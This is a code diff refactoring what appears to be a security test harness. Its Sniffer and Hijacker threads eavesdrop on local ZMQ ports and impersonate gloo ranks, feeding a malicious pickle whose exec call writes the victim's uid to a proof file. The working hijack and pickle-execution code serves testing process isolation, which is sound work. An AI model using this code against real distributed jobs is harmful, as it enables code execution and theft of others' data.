@@ -14,6 +14,7 @@ import sys
 import threading
 import time
 from collections import Counter
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
@@ -35,7 +36,6 @@ _SETTLED = (
     | zmq.EVENT_CONNECT_RETRIED  # nobody has opened
 )
 _HANDSHAKE_MS = 2000  # who has not answered by then does not speak ZMQ
-_EVENTS_KEPT = 400
 _KNOCK_S = 0.1  # then it tries anew
 _NUMBERS = 16  # of gloo's connections, from 0 on
 
@@ -52,18 +52,22 @@ def ports_of(uid: int) -> set[int]:
 class Sniffer(threading.Thread):
     """Subscribes to everything on each port, also on those that come later.
 
-    `heard` counts messages by port, `kept` has the last ones. `settled` are the ports where it is
-    clear whether it is let in, `admitted` those where it is.
+    `heard` counts messages by port. `settled` are the ports where it is clear whether it is let in,
+    `admitted` those where it is.
     """
 
     def __init__(self, uid: int) -> None:
         super().__init__(daemon=True)
         self.heard: Counter[int] = Counter()
-        self.kept: list[tuple[int, list[bytes]]] = []
         self.settled: set[int] = set()
         self.admitted: set[int] = set()
         self._uid = uid
         self.start()
+
+    def report(self) -> dict[str, Any]:
+        """What it has come to."""
+        settled, admitted = sorted(self.settled), sorted(self.admitted)
+        return {"heard": self.heard, "settled": settled, "admitted": admitted}
 
     def run(self) -> None:
         """Until the process ends."""
@@ -74,35 +78,41 @@ class Sniffer(threading.Thread):
             for port in ports_of(self._uid) - set(ports.values()):
                 subscriber = context.socket(zmq.SUB)
                 subscriber.setsockopt(zmq.SUBSCRIBE, b"")
-                monitor = _connect(subscriber, port)
+                subscriber.setsockopt(zmq.HANDSHAKE_IVL, _HANDSHAKE_MS)
+                subscriber.setsockopt(zmq.CONNECT_TIMEOUT, _HANDSHAKE_MS)
+                subscriber.setsockopt(zmq.RECONNECT_IVL, 1000)
+                monitor = subscriber.get_monitor_socket(_SETTLED)
+                subscriber.connect(f"tcp://127.0.0.1:{port}")
                 ports[subscriber], monitors[monitor] = port, port
                 poller.register(subscriber, zmq.POLLIN)
                 poller.register(monitor, zmq.POLLIN)
             for ready, _ in poller.poll(100):
                 parts = ready.recv_multipart()
-                if ready in monitors:
-                    self.settled.add(monitors[ready])
-                    if parse_monitor_message(parts)["event"] == _DONE:
-                        self.admitted.add(monitors[ready])
+                if ready not in monitors:
+                    self.heard[ports[ready]] += 1
                     continue
-                self.heard[ports[ready]] += 1
-                self.kept = [*self.kept[-_EVENTS_KEPT:], (ports[ready], parts)]
-
-
-def _connect(one: zmq.Socket[bytes], port: int) -> zmq.Socket[bytes]:
-    """Connect; the socket that is returned tells once whether anything can come of it."""
-    one.setsockopt(zmq.HANDSHAKE_IVL, _HANDSHAKE_MS)
-    one.setsockopt(zmq.CONNECT_TIMEOUT, _HANDSHAKE_MS)
-    one.setsockopt(zmq.RECONNECT_IVL, 1000)
-    monitor = one.get_monitor_socket(_SETTLED)
-    one.connect(f"tcp://127.0.0.1:{port}")
-    return monitor
+                self.settled.add(monitors[ready])
+                if parse_monitor_message(parts)["event"] == _DONE:
+                    self.admitted.add(monitors[ready])
 
 
 # ---- gloo --------------------------------------------------------------------------------------
 
 _PREAMBLE = struct.Struct("<6Q")  # bytes, operation, slot, offset, length, offset there
 _SEND, _READY_TO_SEND, _READY_TO_RECEIVE = range(1, 4)
+
+
+@dataclass
+class _Knock:
+    """A connection to a port, with the number of a rank's; it is `open` when somebody answers."""
+
+    socket: socket.socket
+    place: tuple[int, int]  # port, number
+    until: float  # then it is tried anew, if nobody has opened
+    open: bool = False
+    data: bytes = b""  # read, and not understood yet
+    num_handed: int = 0  # parts of the pickle
+    start: int = 0  # of the next one
 
 
 class Hijacker(threading.Thread):
@@ -115,108 +125,89 @@ class Hijacker(threading.Thread):
     def __init__(self, uid: int, proof: str) -> None:
         super().__init__(daemon=True)
         self.read: list[str] = []  # what the victim has sent
-        self.knocked = 0  # connections that it has begun, and had
+        self.knocked = 0  # connections that it has begun
         self.looked = 0
-        self.over = threading.Event()
         self._evil = pickle.dumps(_Evil(proof))
         self._uid = uid
         self._low = int(_GIVEN_AWAY.read_text().split()[0])
         self._poll = select.epoll()
-        self._sockets: dict[int, socket.socket] = {}
-        self._held: dict[tuple[int, int], tuple[int, float]] = {}  # port, number -> socket, since
-        self._knocking: dict[int, int] = {}
-        self._open: dict[int, bytes] = {}
-        self._handed: dict[int, list[int]] = {}
+        self._knocks: dict[int, _Knock] = {}  # by file descriptor
+        self._places: dict[tuple[int, int], int] = {}  # port, number -> file descriptor
         self.start()
 
     def run(self) -> None:
-        """Until `over` is set."""
-        while not self.over.is_set():
-            now = time.monotonic()
+        """Until the process ends."""
+        while True:
             for port in ports_of(self._uid):
-                if port >= self._low:
-                    self._knock(port, now)
+                for number in range(_NUMBERS) if port >= self._low else ():
+                    self._knock((port, number))
             self.looked += 1
             for fd, event in self._poll.poll(0):
-                if fd in self._knocking and event & select.EPOLLOUT:
-                    self._enter(fd, self._knocking.pop(fd))
-                elif fd in self._open:
-                    self._listen(fd)
-        for one in self._sockets.values():
-            one.close()
+                knock = self._knocks[fd]
+                try:
+                    if knock.open:
+                        self._listen(knock)
+                    elif event & select.EPOLLOUT:
+                        knock.socket.sendall(struct.pack("<q", knock.place[1]))
+                        knock.open = True
+                        self._poll.modify(fd, select.EPOLLIN)
+                except OSError:
+                    self._drop(fd)
 
-    def _knock(self, port: int, now: float) -> None:
-        for number in range(_NUMBERS):
-            fd, since = self._held.get((port, number), (-1, 0.0))
-            if fd in self._open or (fd in self._knocking and now < since + _KNOCK_S):
-                continue
-            self._drop(fd)
-            one = socket.socket(type=socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
-            with contextlib.suppress(BlockingIOError):
-                one.connect(("127.0.0.1", port))
-            fd = one.fileno()
-            self.knocked += 1
-            self._sockets[fd], self._knocking[fd] = one, number
-            # each at a time of its own, so that one comes soon after a door is opened
-            self._held[port, number] = fd, now + _KNOCK_S * number / _NUMBERS
-            self._poll.register(fd, select.EPOLLOUT)
-
-    def _enter(self, fd: int, number: int) -> None:
-        try:
-            self._sockets[fd].sendall(struct.pack("<q", number))
-        except OSError:
-            self._drop(fd)
-            return
-        self._open[fd] = b""
-        self._poll.modify(fd, select.EPOLLIN)
-
-    def _listen(self, fd: int) -> None:
-        one = self._sockets[fd]
-        try:
-            data = one.recv(1 << 16)
-            if data:
-                one.setblocking(True)  # for what is sent
-                self._open[fd] = self._answer(one, self._open[fd] + data)
-                one.setblocking(False)
+    def _knock(self, place: tuple[int, int]) -> None:
+        now, fd = time.monotonic(), self._places.get(place, -1)
+        if knock := self._knocks.get(fd):
+            if knock.open or now < knock.until:
                 return
-        except OSError:
-            pass
-        self._drop(fd)
+            self._drop(fd)
+        one = socket.socket(type=socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
+        with contextlib.suppress(BlockingIOError):
+            one.connect(("127.0.0.1", place[0]))
+        self.knocked += 1
+        # each at a time of its own, so that one comes soon after a door is opened
+        until = now + _KNOCK_S + _KNOCK_S * place[1] / _NUMBERS
+        self._knocks[one.fileno()] = _Knock(one, place, until)
+        self._places[place] = one.fileno()
+        self._poll.register(one.fileno(), select.EPOLLOUT)
 
     def _drop(self, fd: int) -> None:
-        self._open.pop(fd, None)
-        self._knocking.pop(fd, None)
-        self._handed.pop(fd, None)
-        if one := self._sockets.pop(fd, None):
-            one.close()
+        self._knocks.pop(fd).socket.close()
 
-    def _answer(self, one: socket.socket, data: bytes) -> bytes:
-        while len(data) >= _PREAMBLE.size:
-            size, operation, slot, offset, length, there = _PREAMBLE.unpack(data[:48])
+    def _listen(self, knock: _Knock) -> None:
+        data = knock.socket.recv(1 << 16)
+        if not data:
+            raise ConnectionError
+        knock.data += data
+        knock.socket.setblocking(True)  # for what is sent
+        self._answer(knock)
+        knock.socket.setblocking(False)
+
+    def _answer(self, knock: _Knock) -> None:
+        send = knock.socket.sendall
+        while len(knock.data) >= _PREAMBLE.size:
+            size, operation, slot, offset, length, there = _PREAMBLE.unpack(knock.data[:48])
             if operation == _SEND:
-                if len(data) < size:
+                if len(knock.data) < size:
                     break
-                self.read.append(repr(data[48:size][:200]))
-                data = data[size:]
+                self.read.append(repr(knock.data[48:size][:200]))
+                knock.data = knock.data[size:]
                 continue
-            data = data[48:]
+            knock.data = knock.data[48:]
             if operation == _READY_TO_SEND:
-                one.sendall(_PREAMBLE.pack(48, _READY_TO_RECEIVE, slot, offset, length, there))
+                send(_PREAMBLE.pack(48, _READY_TO_RECEIVE, slot, offset, length, there))
             elif operation == _READY_TO_RECEIVE:
-                content = self._content(one, length)
-                one.sendall(_PREAMBLE.pack(48, _READY_TO_SEND, slot, offset, length, there))
+                content = self._content(knock, length)
+                send(_PREAMBLE.pack(48, _READY_TO_SEND, slot, offset, length, there))
                 size = _PREAMBLE.size + length
-                one.sendall(_PREAMBLE.pack(size, _SEND, slot, offset, length, there) + content)
-        return data
+                send(_PREAMBLE.pack(size, _SEND, slot, offset, length, there) + content)
 
-    def _content(self, one: socket.socket, length: int) -> bytes:
+    def _content(self, knock: _Knock, length: int) -> bytes:
         """As `all_gather_object` has it: the size of the pickle, an answer, the pickle."""
-        handed = self._handed.setdefault(one.fileno(), [0, 0])
-        handed[0] += 1
-        if handed[0] <= 2:
-            size = struct.pack("<q", len(self._evil)) if handed[0] == 1 else b""
+        knock.num_handed += 1
+        if knock.num_handed <= 2:
+            size = struct.pack("<q", len(self._evil)) if knock.num_handed == 1 else b""
             return size.ljust(length, b"\0")[:length]
-        start, handed[1] = handed[1], handed[1] + length
+        start, knock.start = knock.start, knock.start + length
         return self._evil[start : start + length].ljust(length, b"\0")
 
 
@@ -228,33 +219,11 @@ class _Evil:
         return exec, (f"import os; open({self._proof!r}, 'a').write(str(os.getuid()) + ' ')",)
 
 
-# ---- what each does when it is told ----------------------------------------------------------
-
-
-def sniffer(uid: int) -> None:
-    """Listens."""
-    one = Sniffer(uid)
-
-    def report() -> dict[str, Any]:
-        kept = [" ".join(map(repr, parts))[:300] for _, parts in one.kept[-3:]]
-        settled, admitted = sorted(one.settled), sorted(one.admitted)
-        return {"heard": one.heard, "settled": settled, "admitted": admitted, "kept": kept}
-
-    serve({"report": report})
-
-
-def hijacker(uid: int, proof: str) -> None:
-    """Takes the place of ranks."""
-    one = Hijacker(uid, proof)
-
-    def report() -> dict[str, Any]:
-        return {"looked": one.looked, "knocked": one.knocked, "read": one.read[-5:]}
-
-    serve({"report": report})
-    one.over.set()
-    one.join()
-
-
 if __name__ == "__main__":
-    attackers: dict[str, Any] = {"sniffer": sniffer, "hijacker": hijacker}
-    attackers[sys.argv[1]](int(sys.argv[2]), *sys.argv[3:])
+    uid = int(sys.argv[2])
+    if sys.argv[1] == "sniffer":
+        one = Sniffer(uid)
+        serve({"report": one.report})
+    else:
+        other = Hijacker(uid, sys.argv[3])
+        serve({"report": lambda: {n: getattr(other, n) for n in ("looked", "knocked", "read")}})
